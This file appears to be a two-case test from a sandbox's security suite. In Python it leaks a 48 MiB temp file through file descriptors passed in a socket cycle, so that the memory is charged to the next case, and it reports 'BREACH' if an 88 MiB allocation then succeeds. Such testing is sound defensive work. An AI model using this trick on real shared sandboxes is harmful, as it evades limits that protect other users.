# attack: leaves memory to the next case, in files sent through sockets that nobody holds: taken for what was there anyway, it
#   is added to that case's limit, and given back to the program that asks for its collection
# wall: such sockets are collected before what is there is looked at
# ending: exit 0 or memory
# ending in rlimit: exit 0
# output: no more than allowed
# arguments: {number}
# cases: 2
# limits: memory=64M files=64M cpu=4s wall=8s
# modules: array socket
import array
import os
import socket
import sys
import time

if sys.argv[1] == "1":
    memory = os.open("/tmp", os.O_TMPFILE | os.O_RDWR)
    for _ in range(48):
        os.write(memory, b"x" * (1 << 20))
    one, other = socket.socketpair()
    for end in (one, other):
        end.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [one.fileno(), other.fileno(), memory]))])
    os.write(1, b"no more than allowed")
    os._exit(0)
for _ in range(3):
    for end in socket.socketpair():
        end.close()
    time.sleep(0.05)
try:
    block = bytearray(b"x") * (88 << 20)
    print(f"BREACH: {len(block) >> 20} MiB")
except MemoryError:
    print("no more than allowed")
